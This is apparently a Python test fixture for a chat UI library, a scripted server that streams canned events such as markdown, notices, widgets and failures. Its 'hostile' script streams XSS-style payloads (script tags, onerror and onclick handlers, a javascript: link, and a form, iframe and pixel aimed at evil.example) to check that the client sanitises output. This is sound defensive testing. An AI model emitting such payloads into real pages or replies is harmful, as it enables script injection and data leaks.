"""What the scripted server answers: one function a subject, chosen by the message's first word."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from typing import Any

from chatkit.errors import CustomStreamError
from chatkit.types import (
    Annotation,
    AssistantMessageContent,
    AssistantMessageContentPartAdded,
    AssistantMessageContentPartAnnotationAdded,
    AssistantMessageContentPartDone,
    AssistantMessageContentPartTextDelta,
    ClientEffectEvent,
    ClosedStatus,
    EndOfTurnItem,
    EntitySource,
    FileSource,
    GeneratedImage,
    GeneratedImageItem,
    GeneratedImageUpdated,
    HiddenContextItem,
    LockedStatus,
    NoticeEvent,
    ProgressUpdateEvent,
    SDKHiddenContextItem,
    StreamOptions,
    StreamOptionsEvent,
    ThreadItemAddedEvent,
    ThreadItemDoneEvent,
    ThreadItemRemovedEvent,
    ThreadItemReplacedEvent,
    ThreadItemUpdatedEvent,
    ThreadMetadata,
    ThreadStreamEvent,
    URLSource,
    UserMessageItem,
    UserMessageTextContent,
    WidgetComponentUpdated,
    WidgetItem,
    WidgetRootUpdated,
    WidgetStreamingTextValueDelta,
    WorkflowItem,
    WorkflowTaskAdded,
    WorkflowTaskUpdated,
)
from chatkit.widgets import Card, Markdown, Text, Title

from tests.e2e.playground import items, widgets
from tests.e2e.playground.memory import MemoryStore

Events = AsyncIterator[ThreadStreamEvent]

MARKDOWN = """## A heading

Some **bold**, *italic*, ~~struck~~ text, `code` and a [link](https://example.com/a).

- one
- two
  - nested

1. first
2. second

- [x] done
- [ ] open

| Name | Count |
| --- | ---: |
| Apples | 3 |

> A quotation

```python
def hello():
    return "world"
```
"""


async def play(thread: ThreadMetadata, message: UserMessageItem | None, store: MemoryStore) -> Events:
    """Play the script that the message names; without a message, say what the client sent."""
    text = "".join(part.text for part in message.content if isinstance(part, UserMessageTextContent)) if message else ""
    word, _, rest = text.strip().partition(" ")
    if message is None:
        async for event in follow_up(thread, store):
            yield event
        return
    events = SCRIPTS[word](thread, rest) if word in SCRIPTS else echo(thread, text)
    async for event in events:
        yield event


async def say(thread: ThreadMetadata, text: str, pause: float = 0) -> Events:
    """Stream a text as an assistant message, word by word."""
    message = items.assistant(thread.id, "")
    yield ThreadItemAddedEvent(item=message)
    part = AssistantMessageContent(text="")
    yield update(message.id, AssistantMessageContentPartAdded(content_index=0, content=part))
    for piece in text.split(" "):
        await asyncio.sleep(pause)
        delta = f"{piece} "
        yield update(message.id, AssistantMessageContentPartTextDelta(content_index=0, delta=delta))
    done = AssistantMessageContent(text=text)
    yield update(message.id, AssistantMessageContentPartDone(content_index=0, content=done))
    yield ThreadItemDoneEvent(item=message.model_copy(update={"content": [done]}))


def update(item_id: str, change: Any) -> ThreadItemUpdatedEvent:
    return ThreadItemUpdatedEvent(item_id=item_id, update=change)


async def echo(thread: ThreadMetadata, text: str) -> Events:
    thread.title = thread.title or f"About {text[:20]}"
    async for event in say(thread, f"You said: {text}"):
        yield event


async def follow_up(thread: ThreadMetadata, store: MemoryStore) -> Events:
    last = list(store.items[thread.id].values())[-1]
    said = last.model_dump_json(include={"output", "inputs", "status"}, exclude_none=True)
    async for event in say(thread, f"Received `{said}`"):
        yield event


async def markdown(thread: ThreadMetadata, text: str) -> Events:
    async for event in say(thread, MARKDOWN):
        yield event


RICH = """A table of long words, and code:

| Name | What it is for | Where it is found | Who looks after it |
| --- | --- | --- | ---: |
| Bezirksschornsteinfegermeister | Donaudampfschifffahrtsgesellschaft | Rindfleischetikettierung | 1234567890 |

```python
def greet(name: str) -> str:
    # A comment
    return f"Hello {name}" * 3
```

- [x] Water the plants
- [ ] Buy milk

Euler wrote \\(e^{i\\pi} + 1 = 0\\), and Gauss

$$\\int_{-\\infty}^{\\infty} e^{-x^2} dx = \\sqrt{\\pi}$$
"""


async def rich(thread: ThreadMetadata, text: str) -> Events:
    async for event in say(thread, RICH):
        yield event


async def long(thread: ThreadMetadata, text: str) -> Events:
    """Say many paragraphs, a few at a time."""
    async for event in say(thread, " ".join(f"\n\nParagraph {number}." for number in range(60)), pause=0.03):
        yield event


async def deltas(thread: ThreadMetadata, text: str) -> Events:
    """Say as many words as are asked for, without a pause."""
    words = (f"word{number}" + (".\n\n" if number % 100 == 99 else "") for number in range(int(text)))
    async for event in say(thread, " ".join(words)):
        yield event


async def hostile(thread: ThreadMetadata, text: str) -> Events:
    """Say what a message must never be able to do."""
    bad = (
        '<img src=x onerror="window.hacked = 1"> <script>window.hacked = 1</script> '
        "[click](javascript:window.hacked=1) <form action='https://evil.example'><input name=a></form> "
        '<a href="https://example.com" onclick="window.hacked = 1">plain</a> '
        "![spy](https://evil.example/pixel.png?secret=1) <iframe src='https://evil.example'></iframe> "
        '<p style="position: fixed; inset: 0">over everything</p>'
    )
    async for event in say(thread, bad):
        yield event


async def slow(thread: ThreadMetadata, text: str) -> Events:
    async for event in say(thread, " ".join(f"word{i}" for i in range(200)), pause=0.05):
        yield event


async def unstoppable(thread: ThreadMetadata, text: str) -> Events:
    yield StreamOptionsEvent(stream_options=StreamOptions(allow_cancel=False))
    async for event in say(thread, " ".join(f"word{i}" for i in range(20)), pause=0.05):
        yield event


async def progress(thread: ThreadMetadata, text: str) -> Events:
    yield ProgressUpdateEvent(icon="search", text="Looking through the files")
    await asyncio.sleep(1)
    async for event in say(thread, "Found it."):
        yield event


async def notice(thread: ThreadMetadata, text: str) -> Events:
    yield NoticeEvent(level="info", title="Good to know", message="Read the [manual](https://example.com/manual).")
    yield NoticeEvent(level="warning", message="Nine of ten messages used.")
    yield NoticeEvent(level="danger", message="The **last** warning.")
    async for event in say(thread, "Three notices."):
        yield event


async def effect(thread: ThreadMetadata, text: str) -> Events:
    yield ClientEffectEvent(name="highlight", data={"row": 7})
    async for event in say(thread, "Look."):
        yield event


async def fail_once(thread: ThreadMetadata, text: str) -> Events:
    """Fail the first time that a thread asks, succeed on its retry."""
    if not thread.metadata.get("failed"):
        thread.metadata = {"failed": True}
        async for event in say(thread, "Half an ans"):
            yield event
        raise CustomStreamError("The model is resting.", allow_retry=True)
    async for event in say(thread, "The whole answer."):
        yield event


async def fail_finally(thread: ThreadMetadata, text: str) -> Events:
    raise CustomStreamError("This cannot be done.", allow_retry=False)
    yield


async def lock(thread: ThreadMetadata, text: str) -> Events:
    async for event in say(thread, "Locked."):
        yield event
    thread.status = LockedStatus(reason="An agent took over.")


async def close(thread: ThreadMetadata, text: str) -> Events:
    async for event in say(thread, "Closed."):
        yield event
    thread.status = ClosedStatus()


async def sources(thread: ThreadMetadata, text: str) -> Events:
    """Cite a page, a file and an entity; the text begins beyond the basic plane of Unicode."""
    message = items.assistant(thread.id, "")
    yield ThreadItemAddedEvent(item=message)
    body = "🙂 Tomatoes are red. Basil is green. Ask Zeeshan."
    yield update(
        message.id, AssistantMessageContentPartAdded(content_index=0, content=AssistantMessageContent(text=body))
    )
    page = URLSource(
        title="On tomatoes", url="https://example.com/tomatoes", attribution="Example", description="All of it."
    )
    file = FileSource(title="Herbs", filename="herbs.pdf")
    person = EntitySource(id="employee-7", title="Zeeshan", icon="profile", interactive=True, data={"role": "agent"})
    found = [
        Annotation(source=source, index=index) for source, index in ((page, 18), (file, 35), (person, len(body) - 1))
    ]
    for number, annotation in enumerate(found):
        added = AssistantMessageContentPartAnnotationAdded(
            content_index=0, annotation_index=number, annotation=annotation
        )
        yield update(message.id, added)
    content = AssistantMessageContent(text=body, annotations=found)
    yield ThreadItemDoneEvent(item=message.model_copy(update={"content": [content]}))


async def think(thread: ThreadMetadata, text: str) -> Events:
    """Open a workflow, add its tasks, change one, close it."""
    workflow = items.workflow(thread.id, summary=None, tasks=[])
    yield ThreadItemAddedEvent(item=workflow)
    for index, task in enumerate(items.TASKS):
        yield update(workflow.id, WorkflowTaskAdded(task_index=index, task=task))
    first = items.TASKS[0].model_copy(update={"title": "Read the question twice", "status_indicator": "complete"})
    yield update(workflow.id, WorkflowTaskUpdated(task_index=0, task=first))
    done: WorkflowItem = items.workflow(thread.id, tasks=[first, *items.TASKS[1:]], item_id=workflow.id)
    yield ThreadItemDoneEvent(item=done)
    async for event in say(thread, "Thought through."):
        yield event


async def image(thread: ThreadMetadata, text: str) -> Events:
    item = GeneratedImageItem(**items.base(thread.id, "img"))
    yield ThreadItemAddedEvent(item=item)
    picture = GeneratedImage(id="picture", url=widgets.PICTURE)
    yield update(item.id, GeneratedImageUpdated(image=picture, progress=0.5))
    await asyncio.sleep(1)
    yield ThreadItemDoneEvent(item=item.model_copy(update={"image": picture}))


async def tool(thread: ThreadMetadata, text: str) -> Events:
    yield ThreadItemDoneEvent(item=items.client_tool_call(thread.id, name=text or "get_browser_info"))


async def ask(thread: ThreadMetadata, text: str) -> Events:
    yield ThreadItemDoneEvent(item=items.structured_input(thread.id))


async def guard(thread: ThreadMetadata, text: str) -> Events:
    """Take back what was already shown."""
    message = items.assistant(thread.id, "A secret.")
    yield ThreadItemAddedEvent(item=message)
    await asyncio.sleep(0.5)
    yield ThreadItemRemovedEvent(item_id=message.id)
    replaced = items.assistant(thread.id, "A draft.")
    yield ThreadItemDoneEvent(item=replaced)
    better = items.assistant(thread.id, "The final word.", item_id=replaced.id)
    yield ThreadItemReplacedEvent(item=better)


async def widget(thread: ThreadMetadata, text: str) -> Events:
    yield ThreadItemDoneEvent(item=items.widget(thread.id, widgets.BY_NAME[text]))


async def widget_updates(thread: ThreadMetadata, text: str) -> Events:
    """Stream into a widget's text, change one component, then the whole."""
    card = Card(
        children=[
            Title(id="title", value="Draft"),
            Text(id="body", value="", streaming=True),
            Markdown(id="note", value=""),
        ]
    )
    item: WidgetItem = items.widget(thread.id, card)
    yield ThreadItemAddedEvent(item=item)
    for piece in ("Once ", "upon ", "a time"):
        yield update(item.id, WidgetStreamingTextValueDelta(component_id="body", delta=piece, done=False))
    yield update(item.id, WidgetStreamingTextValueDelta(component_id="body", delta=".", done=True))
    yield update(item.id, WidgetComponentUpdated(component_id="title", component=Title(id="title", value="A tale")))
    await asyncio.sleep(1)
    final = Card(children=[Title(value="The end"), Text(value="Once upon a time.")])
    yield update(item.id, WidgetRootUpdated(widget=final))
    yield ThreadItemDoneEvent(item=item.model_copy(update={"widget": final}))


async def widget_unfinished(thread: ThreadMetadata, text: str) -> Events:
    """Stream into a widget's text, and go on for ever."""
    item = items.widget(thread.id, Card(children=[Text(id="body", value="", streaming=True)]))
    yield ThreadItemAddedEvent(item=item)
    while True:
        yield update(item.id, WidgetStreamingTextValueDelta(component_id="body", delta="word ", done=False))
        await asyncio.sleep(0.05)


async def silent(thread: ThreadMetadata, text: str) -> Events:
    """Add the kinds of items that steer a thread and are never drawn."""
    yield ThreadItemDoneEvent(item=HiddenContextItem(**items.base(thread.id, "hid"), content="Hidden secret"))
    yield ThreadItemDoneEvent(item=SDKHiddenContextItem(**items.base(thread.id, "sdk"), content="Hidden secret"))
    async for event in say(thread, "Spoken."):
        yield event
    yield ThreadItemDoneEvent(item=EndOfTurnItem(**items.base(thread.id, "end")))


SCRIPTS: dict[str, Callable[[ThreadMetadata, str], Events]] = {
    "ask": ask,
    "close": close,
    "deltas": deltas,
    "effect": effect,
    "fail-finally": fail_finally,
    "fail-once": fail_once,
    "guard": guard,
    "hostile": hostile,
    "image": image,
    "lock": lock,
    "long": long,
    "markdown": markdown,
    "notice": notice,
    "progress": progress,
    "rich": rich,
    "silent": silent,
    "slow": slow,
    "sources": sources,
    "think": think,
    "tool": tool,
    "unstoppable": unstoppable,
    "widget": widget,
    "widget-unfinished": widget_unfinished,
    "widget-updates": widget_updates,
}
